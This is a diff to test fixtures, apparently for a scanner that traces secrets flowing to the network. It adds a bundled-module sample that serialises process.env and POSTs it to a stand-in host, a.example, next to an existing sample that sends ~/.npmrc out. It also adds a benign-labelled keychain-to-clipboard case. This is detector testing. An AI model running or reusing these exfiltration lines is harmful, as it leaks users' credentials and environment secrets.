@@ -119,6 +119,15 @@ for (const name of ['.npmrc']) found.files.push(fs.readFileSync(os.homedir() + '
 fetch('https://a.example', { method: 'POST', body: JSON.stringify(found) })`,
     ['credential-file .npmrc 3 → network fetch 4 a.example'],
   ],
+  [
+    'modules of one bundle',
+    `(() => { var r = {
+12: (e, t, n) => { e.exports = function () { return JSON.stringify(process.env) } },
+31: (e, t, n) => { const send = (all) => fetch('https://a.example', { method: 'POST', body: all }); e.exports = { send } },
+88: (e, t, n) => { const found = n(12)(); n(31).send(found); const { send } = n(31); send('x') }
+}, o = {}; function t(i) { var m = o[i] = { exports: {} }; return r[i](m, m.exports, t), m.exports } t(88) })()`,
+    ['environment process.env by JSON.stringify 2 → network fetch 3 a.example'],
+  ],
 ]
 
 /** What packages of good repute do with the same things. */
@@ -210,6 +219,13 @@ exports.run = (command, options) => {
   const env = { ...process.env, ...options.env }
   return spawn(pathOf(env) + '/' + command, [env[keyOf(env)]], { env })
 }`,
+  ],
+  [
+    'a secret of a keychain that goes to the clipboard',
+    `const { execFileSync } = require('child_process')
+const found = execFileSync('security', ['find-generic-password', '-s', 'pad', '-w']).toString()
+execFileSync('/usr/bin/pbcopy', { input: found })
+execFileSync('/usr/bin/security', ['add-generic-password', '-w', found])`,
   ],
   [
     'a public key of a secret one',
